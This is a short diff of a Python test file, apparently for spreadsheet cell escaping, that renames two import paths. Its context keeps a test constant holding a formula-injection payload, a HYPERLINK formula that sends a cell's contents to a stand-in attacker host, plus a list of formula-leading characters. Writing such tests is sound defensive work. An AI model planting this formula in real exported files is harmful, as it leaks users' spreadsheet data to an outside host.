@@ -14,9 +14,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from capkin.achievement.tabel import sel_csv
+from capkin.achievement.terminal_table import sel_csv
 from capkin.site import PilihanPdf, bangun
-from capkin.site.unduh import _sel_xlsx, sel_tulis
+from capkin.site.downloads import _sel_xlsx, sel_tulis
 
 SERANGAN = '=HYPERLINK("https://evil.example/?d="&C3,"Klik")'
 AWAL_RUMUS = ("=", "+", "-", "@", "\t", "\r")
